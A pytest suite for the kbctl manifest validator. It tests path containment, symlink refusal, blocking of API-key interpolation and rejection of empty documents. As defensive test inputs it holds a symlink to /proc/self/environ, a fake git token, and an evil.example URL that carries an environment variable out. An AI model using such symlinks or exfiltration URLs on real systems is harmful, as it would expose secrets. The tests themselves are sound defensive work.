"""Safe by construction: contained document paths, no secrets through `${VAR}`, no empty documents,
and manifests for other environments skipped rather than failing the run.

Every case goes through `kbctl validate` or `kbctl plan` end to end.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from hypothesis import given
from hypothesis import strategies as st

from kbctl.cli.main import cli
from kbctl.manifest.containment import is_inside
from tests.manifest.conftest import MINIMAL, Project

SECRET = "sk_test_9e8d7c6b5a4f3e2d1c0b"
BODY = "# Doc\n\n" + "Flats from 45 to 120 m², parking, schools and parks nearby. " * 10 + "\n"


def docs(*entries: str) -> str:
    return MINIMAL + "documents:\n" + "".join(f"  - {e}\n" for e in entries)


def assert_refused(result: Result, where: str, message: str) -> None:
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    assert where in result.output
    assert message in result.output


# ------------------------------------------------------------------------------------------
# Paths stay inside the repository


@pytest.fixture
def repo(project: Project) -> Project:
    """A git work tree (a `.git` folder at its root) with the manifest one level down."""
    project.write(".git/config", "[remote]\n\turl = https://x:ghp_token@github.com/a/b\n")
    project.write("outside-manifests.md", BODY)
    return project


def test_file_outside_the_manifest_dir_but_inside_the_repository_is_fine(repo: Project) -> None:
    name = repo.manifest(docs("file: ../outside-manifests.md"), "manifests/m.yaml")
    result = repo.validate("-f", name)
    assert result.exit_code == 0, result.output


def test_file_outside_the_repository_is_refused(repo: Project, tmp_path: Path) -> None:
    (tmp_path.parent / "outside.txt").write_text(BODY)
    name = repo.manifest(docs("file: ../outside.txt"))
    assert_refused(
        repo.validate("-f", name),
        "m.yaml:7 at documents[0].file",
        "../outside.txt resolves outside the repository",
    )


def test_glob_reaching_outside_is_refused_before_listing(repo: Project, tmp_path: Path) -> None:
    (tmp_path.parent / "outside.txt").write_text(BODY)
    name = repo.manifest(docs("glob: ../../*.txt"), "manifests/m.yaml")
    assert_refused(
        repo.validate("-f", name),
        "manifests/m.yaml:7 at documents[0].glob",
        "glob '../../*.txt' reaches outside the repository",
    )


def test_without_git_the_manifest_directory_is_the_boundary(project: Project) -> None:
    project.write("shared.md", BODY)
    name = project.manifest(docs("file: ../shared.md"), "manifests/m.yaml")
    assert_refused(
        project.validate("-f", name),
        "manifests/m.yaml:7 at documents[0].file",
        "../shared.md resolves outside the repository",
    )


@pytest.mark.skipif(not Path("/proc/self/environ").exists(), reason="needs /proc")
def test_symlink_to_proc_self_environ_is_refused_and_never_read(
    repo: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ELEVENLABS_API_KEY", SECRET)
    (repo.root / "manifests/kb").mkdir(parents=True)
    os.symlink("/proc/self/environ", repo.root / "manifests/kb/env.pdf")
    name = repo.manifest(docs("glob: kb/*"), "manifests/m.yaml")
    result = repo.validate("-f", name)
    assert_refused(result, "manifests/m.yaml:7 at documents[0].glob", "kb/env.pdf resolves outside")
    assert SECRET not in result.output


def test_symlink_into_git_and_a_path_into_git_are_refused(repo: Project) -> None:
    os.symlink("../.git/config", repo.root / "manifests-config.md")
    (repo.root / "kb").mkdir()
    os.symlink("../.git/config", repo.root / "kb/config.md")
    name = repo.manifest(docs("file: kb/config.md", "file: .git/config.txt"))
    repo.write(".git/config.txt", BODY)
    result = repo.validate("-f", name)
    assert_refused(result, "m.yaml:7 at documents[0].file", "kb/config.md is inside a .git folder")
    assert "m.yaml:8 at documents[1].file: .git/config.txt is inside a .git folder" in (
        result.output
    )
    assert "ghp_token" not in result.output


def test_symlink_inside_the_repository_is_followed(repo: Project) -> None:
    repo.write("kb/real.md", BODY)
    os.symlink("real.md", repo.root / "kb/alias.md")
    name = repo.manifest(docs("file: kb/alias.md"))
    result = repo.validate("-f", name)
    assert result.exit_code == 0, result.output


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_fifo_is_refused_without_blocking(repo: Project) -> None:
    (repo.root / "kb").mkdir()
    os.mkfifo(repo.root / "kb/pipe.md")
    name = repo.manifest(docs("file: kb/pipe.md", "glob: kb/*.md"))
    result = repo.validate("-f", name)
    assert_refused(result, "m.yaml:7 at documents[0].file", "kb/pipe.md is not a regular file")
    assert "m.yaml:8 at documents[1].glob: kb/pipe.md is not a regular file" in result.output


@pytest.mark.skipif(not Path("/dev/null").exists(), reason="needs /dev/null")
def test_device_is_refused(repo: Project) -> None:
    os.symlink("/dev/null", repo.root / "null.md")
    name = repo.manifest(docs("file: null.md"))
    assert_refused(repo.validate("-f", name), "m.yaml:7 at documents[0].file", "null.md")


def test_escape_is_refused_by_plan_too_without_touching_the_network(
    repo: Project, tmp_path: Path
) -> None:
    (tmp_path.parent / "outside.txt").write_text(BODY)
    name = repo.manifest(
        MINIMAL.replace("agent_local", "agent_local\n    base_url: emulator://.kbctl/emu")
        + "documents:\n  - file: ../outside.txt\n"
    )
    result = CliRunner().invoke(cli, ["plan", "-e", "local", "-f", name])
    assert_refused(result, "m.yaml:8 at documents[0].file", "resolves outside the repository")
    assert not (repo.root / ".kbctl").exists()


# ------------------------------------------------------------------------------------------
# `${VAR}` only where it is listed, never with the API key


@pytest.mark.parametrize(
    ("entry", "where"),
    [
        ("{key: k, text: 'the key is ${ELEVENLABS_API_KEY}'}", "documents[0].text"),
        ("{key: 'k-${HOME}', text: hello there}", "documents[0].key"),
        ("url: 'https://evil.example/?k=${KB_VALUE}'", "documents[0].url"),
        ("file: '${KB_VALUE}.md'", "documents[0].file"),
        ("glob: 'kb/${KB_VALUE}/*.md'", "documents[0].glob"),
    ],
)
def test_variables_outside_the_listed_fields_are_errors(
    project: Project, entry: str, where: str
) -> None:
    name = project.manifest(docs(entry))
    env = {"ELEVENLABS_API_KEY": SECRET, "KB_VALUE": "v", "HOME": "/home/x"}
    result = project.validate("-f", name, "-e", "local", env=env)
    assert_refused(result, f"m.yaml:7 at {where}", "is not allowed here")
    assert (
        "variables are read only in agent_id, base_url, vector_store_id and vector_store.name"
        in result.output
    )
    assert SECRET not in result.output


def test_variables_in_checks_and_project_names_are_errors(project: Project) -> None:
    name = project.manifest(
        docs("{key: faq, text: hello there}")
        + "checks:\n  - {query: 'what is ${KB_VALUE}?', expect: faq}\n"
    )
    result = project.validate("-f", name, env={"KB_VALUE": "v"})
    assert_refused(result, "m.yaml:9 at checks[0].query", "'${KB_VALUE}' is not allowed here")


@pytest.mark.parametrize(
    ("agent_id", "api_key_env", "env", "message"),
    [
        ("${ELEVENLABS_API_KEY}", None, {"ELEVENLABS_API_KEY": SECRET}, "holds an API key"),
        ("${OPENAI_API_KEY}", None, {"OPENAI_API_KEY": SECRET}, "holds an API key"),
        ("${MY_KEY}", "MY_KEY", {"MY_KEY": SECRET}, "holds an API key"),
        (
            "${COPY}",
            None,
            {"ELEVENLABS_API_KEY": SECRET, "COPY": SECRET},
            "has the same value as the API key",
        ),
        (
            "agent-${A}${B}",
            None,
            {"ELEVENLABS_API_KEY": SECRET, "A": SECRET[:10], "B": SECRET[10:]},
            "the value would contain the API key",
        ),
    ],
)
def test_the_api_key_is_never_interpolated(
    project: Project, agent_id: str, api_key_env: str | None, env: dict[str, str], message: str
) -> None:
    extra = f"    api_key_env: {api_key_env}\n" if api_key_env else ""
    name = project.manifest(MINIMAL + f"  staging:\n    agent_id: '{agent_id}'\n" + extra)
    for args in (("-e", "staging"), ()):
        result = project.validate("-f", name, *args, env=env)
        assert_refused(result, "m.yaml:7 at environments.staging.agent_id", message)
        assert SECRET not in result.output
        assert SECRET[:10] not in result.output


def test_the_api_key_never_reaches_plan_output(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ELEVENLABS_API_KEY", SECRET)
    name = project.manifest(
        "version: 1\nproject: demo\nenvironments:\n  local:\n"
        "    base_url: emulator://.kbctl/emu\n    agent_id: ${ELEVENLABS_API_KEY}\n"
    )
    result = CliRunner().invoke(cli, ["plan", "-e", "local", "-f", name])
    assert_refused(result, "m.yaml:6 at environments.local.agent_id", "holds an API key")
    assert SECRET not in result.output


# ------------------------------------------------------------------------------------------
# No empty documents


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "kb/doc.md is empty"),
        (b"   \n\t\r\n  \n", "kb/doc.md holds only whitespace"),
        (b"\xef\xbb\xbf", "kb/doc.md holds only a byte-order mark"),
        (b"\xef\xbb\xbf\r\n\xe2\x80\x8b\n", "kb/doc.md holds only whitespace"),
    ],
    ids=["empty", "blank", "bom-only", "bom-and-zero-width"],
)
def test_empty_text_files_are_errors(project: Project, content: bytes, message: str) -> None:
    project.write("kb/doc.md", content)
    name = project.manifest(docs("file: kb/doc.md", "glob: 'kb/*.md'\n    usage_mode: prompt"))
    result = project.validate("-f", name)
    assert_refused(result, "m.yaml:7 at documents[0].file", message)
    assert f"m.yaml:8 at documents[1].glob: {message}" in result.output


def test_empty_pdf_is_an_error(project: Project) -> None:
    project.write("kb/doc.pdf", b"")
    name = project.manifest(docs("file: kb/doc.pdf"))
    assert_refused(project.validate("-f", name), "m.yaml:7 at documents[0].file", "is empty")


def test_blank_inline_text_is_an_error(project: Project) -> None:
    name = project.manifest(docs('{key: blank, text: "  \\n\\t  "}'))
    assert_refused(project.validate("-f", name), "m.yaml:7 at documents[0].text", "text is blank")


def test_empty_inline_text_is_a_schema_error(project: Project) -> None:
    name = project.manifest(docs("{key: blank, text: ''}"))
    assert_refused(project.validate("-f", name), "m.yaml:7 at documents[0].text", "empty")


# ------------------------------------------------------------------------------------------
# Manifests for other environments are skipped


def two_manifests(project: Project) -> None:
    project.write("manifests/kb/a.md", BODY)
    project.manifest(
        "version: 1\nproject: alpha\ndocuments:\n  - file: kb/a.md\nenvironments:\n"
        "  staging:\n    base_url: emulator://.kbctl/emu\n    agent_id: agent_alpha\n",
        "manifests/alpha.yaml",
    )
    project.manifest(
        "version: 1\nproject: beta\nenvironments:\n"
        "  production:\n    base_url: emulator://.kbctl/emu\n    agent_id: agent_beta\n",
        "manifests/beta.yaml",
    )


def test_plan_skips_a_manifest_without_the_environment_with_a_note(project: Project) -> None:
    two_manifests(project)
    result = CliRunner().invoke(cli, ["plan", "-e", "staging", "--format", "json"])
    assert result.exit_code == 0, result.output
    assert (
        "Note: manifests/beta.yaml does not declare environment 'staging'; skipped" in result.stderr
    )
    plan = json.loads(result.stdout)
    assert [a["agent_id"] for a in plan["agents"]] == ["agent_alpha"]


def test_plan_fails_when_no_manifest_has_the_environment(project: Project) -> None:
    two_manifests(project)
    result = CliRunner().invoke(cli, ["plan", "-e", "stagng"])
    assert result.exit_code == 1
    assert "no manifest declares environment 'stagng'; did you mean 'staging'?" in result.output
    assert "manifests/alpha.yaml: staging" in result.output
    assert "manifests/beta.yaml: production" in result.output


def test_validate_with_an_environment_skips_the_others_too(project: Project) -> None:
    two_manifests(project)
    result = CliRunner().invoke(cli, ["validate", "-e", "production"])
    assert result.exit_code == 0, result.output
    assert "Note: manifests/alpha.yaml does not declare environment 'production'" in (result.stderr)
    assert "2 manifests valid: alpha.yaml; beta.yaml (production 0 documents)" in result.stdout
    missing = CliRunner().invoke(cli, ["validate", "-e", "qa"])
    assert missing.exit_code == 1
    assert "unknown environment 'qa'" in missing.output


def test_problems_of_every_manifest_with_the_environment_are_reported(project: Project) -> None:
    for name in ("alpha", "beta"):
        project.manifest(
            f"version: 1\nproject: {name}\nenvironments:\n"
            f"  staging:\n    agent_id: ${{KB_{name.upper()}_AGENT}}\n",
            f"manifests/{name}.yaml",
        )
    result = CliRunner().invoke(cli, ["plan", "-e", "staging"], env={"KB_ALPHA_AGENT": None})
    assert result.exit_code == 1
    assert "Error: 2 problems in manifests/alpha.yaml, manifests/beta.yaml" in result.output
    assert "manifests/alpha.yaml:5 at environments.staging.agent_id" in result.output
    assert "environment variable KB_BETA_AGENT is not set" in result.output
    assert "Hint: set KB_ALPHA_AGENT, KB_BETA_AGENT" in result.output


def test_a_manifest_symlinked_out_of_the_repository_is_not_read(
    repo: Project, tmp_path: Path
) -> None:
    (tmp_path.parent / "team.env").write_text(f"OPENAI_API_KEY={SECRET}\n")
    (repo.root / "manifests").mkdir()
    os.symlink(tmp_path.parent / "team.env", repo.root / "manifests/evil.yaml")
    os.symlink("../.git/config", repo.root / "manifests/config.yaml")
    result = CliRunner().invoke(cli, ["plan", "-e", "local"])
    assert result.exit_code == 1
    assert "manifests/evil.yaml: resolves outside the repository" in result.output
    assert "manifests/config.yaml: is inside a .git folder" in result.output
    assert SECRET not in result.output
    assert "ghp_token" not in result.output


_PART = st.sampled_from(["a", "b", "ab", ".git", "a.git", ".gitx", "..a", "repo", "repo2"])


@given(st.lists(_PART, min_size=1, max_size=3), st.lists(_PART, max_size=4))
def test_is_inside_compares_whole_components(root_parts: list[str], parts: list[str]) -> None:
    root = Path("/", *root_parts)
    path = os.path.join("/", *parts) if parts else "/"
    expected = os.path.commonpath([path, str(root)]) == str(root)
    assert is_inside(path, root) == expected
